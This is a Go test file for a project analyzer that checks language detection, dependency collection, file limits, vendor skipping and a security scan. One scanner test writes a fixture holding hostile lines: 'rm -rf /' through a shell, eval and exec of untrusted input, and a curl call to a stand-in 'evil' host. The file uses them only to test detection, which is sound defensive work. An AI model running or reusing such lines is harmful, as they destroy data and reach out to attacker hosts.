package analyzer

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gridworks/forge/internal/domain"
)

func writeFile(t *testing.T, dir, name, content string) {
	t.Helper()
	path := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestAnalyzePythonProject(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "main.py", "import flask\n\nprint('hi')\n")
	writeFile(t, dir, "util.py", "def helper():\n    return 1\n")
	writeFile(t, dir, "requirements.txt", "flask==2.0.0\nrequests>=2.28\n# comment\n")

	analysis, err := New(0).Analyze(dir)
	if err != nil {
		t.Fatal(err)
	}
	if analysis.Language != domain.LanguagePython {
		t.Errorf("language = %q, want python", analysis.Language)
	}
	if len(analysis.EntryPoints) == 0 || analysis.EntryPoints[0] != "main.py" {
		t.Errorf("entry points = %v, want main.py first", analysis.EntryPoints)
	}
	if analysis.FileCount != 3 {
		t.Errorf("file count = %d, want 3", analysis.FileCount)
	}
	wantDeps := map[string]bool{"flask": false, "requests": false}
	for _, dep := range analysis.Dependencies {
		if _, ok := wantDeps[dep]; ok {
			wantDeps[dep] = true
		}
	}
	for dep, found := range wantDeps {
		if !found {
			t.Errorf("dependency %q not collected: %v", dep, analysis.Dependencies)
		}
	}
	if analysis.Complexity != domain.ComplexitySimple {
		t.Errorf("complexity = %q, want simple", analysis.Complexity)
	}
}

func TestAnalyzeNodeProject(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "index.js", "console.log('hi')\n")
	writeFile(t, dir, "package.json", `{"name":"demo","dependencies":{"express":"^4.18.0"}}`)

	analysis, err := New(0).Analyze(dir)
	if err != nil {
		t.Fatal(err)
	}
	if analysis.Language != domain.LanguageNode {
		t.Errorf("language = %q, want node", analysis.Language)
	}
	found := false
	for _, dep := range analysis.Dependencies {
		if dep == "express" {
			found = true
		}
	}
	if !found {
		t.Errorf("dependencies = %v, want express", analysis.Dependencies)
	}
}

func TestAnalyzeManifestOutweighsStrayFiles(t *testing.T) {
	dir := t.TempDir()
	// More js files than python, but the python manifest decides.
	writeFile(t, dir, "requirements.txt", "flask\n")
	writeFile(t, dir, "app.py", "print('hi')\n")
	for _, name := range []string{"a.js", "b.js", "c.js", "d.js"} {
		writeFile(t, dir, filepath.Join("assets", name), "// generated\n")
	}
	analysis, err := New(0).Analyze(dir)
	if err != nil {
		t.Fatal(err)
	}
	if analysis.Language != domain.LanguagePython {
		t.Errorf("language = %q, want python despite js majority", analysis.Language)
	}
}

func TestAnalyzeEmptyDir(t *testing.T) {
	_, err := New(0).Analyze(t.TempDir())
	if !errors.Is(err, ErrAnalysis) {
		t.Fatalf("err = %v, want ErrAnalysis", err)
	}
}

func TestAnalyzeMissingDir(t *testing.T) {
	_, err := New(0).Analyze(filepath.Join(t.TempDir(), "nope"))
	if !errors.Is(err, ErrAnalysis) {
		t.Fatalf("err = %v, want ErrAnalysis", err)
	}
}

func TestAnalyzeFileCeiling(t *testing.T) {
	dir := t.TempDir()
	for _, name := range []string{"a.py", "b.py", "c.py", "d.py"} {
		writeFile(t, dir, name, "print('x')\n")
	}
	_, err := New(2).Analyze(dir)
	if !errors.Is(err, ErrAnalysis) {
		t.Fatalf("err = %v, want ErrAnalysis for file ceiling", err)
	}
	if err != nil && !strings.Contains(err.Error(), "file") {
		t.Errorf("err = %v, want file-count mention", err)
	}
}

func TestAnalyzeSkipsVendorDirs(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "index.js", "console.log('hi')\n")
	writeFile(t, dir, "package.json", `{"name":"demo"}`)
	writeFile(t, dir, filepath.Join("node_modules", "dep", "index.js"), "big\n")
	analysis, err := New(0).Analyze(dir)
	if err != nil {
		t.Fatal(err)
	}
	if analysis.FileCount != 2 {
		t.Errorf("file count = %d, want node_modules skipped", analysis.FileCount)
	}
}

func TestSecurityScanFlagsRiskyCode(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "main.py", strings.Join([]string{
		"import subprocess",
		"subprocess.call('rm -rf /', shell=True)",
		"eval(user_input)",
		"exec(payload)",
		"os.system('curl http://evil')",
	}, "\n"))
	analysis, err := New(0).Analyze(dir)
	if err != nil {
		t.Fatal(err)
	}
	if analysis.Security.RiskLevel == domain.RiskLow {
		t.Errorf("risk = %q, want elevated; findings: %v", analysis.Security.RiskLevel, analysis.Security.Findings)
	}
	if len(analysis.Security.Findings) == 0 {
		t.Error("expected findings for shell/eval usage")
	}
}

func TestSecurityScanCleanProject(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "main.py", "def add(a, b):\n    return a + b\n")
	analysis, err := New(0).Analyze(dir)
	if err != nil {
		t.Fatal(err)
	}
	if analysis.Security.RiskLevel != domain.RiskLow {
		t.Errorf("risk = %q, want low", analysis.Security.RiskLevel)
	}
}
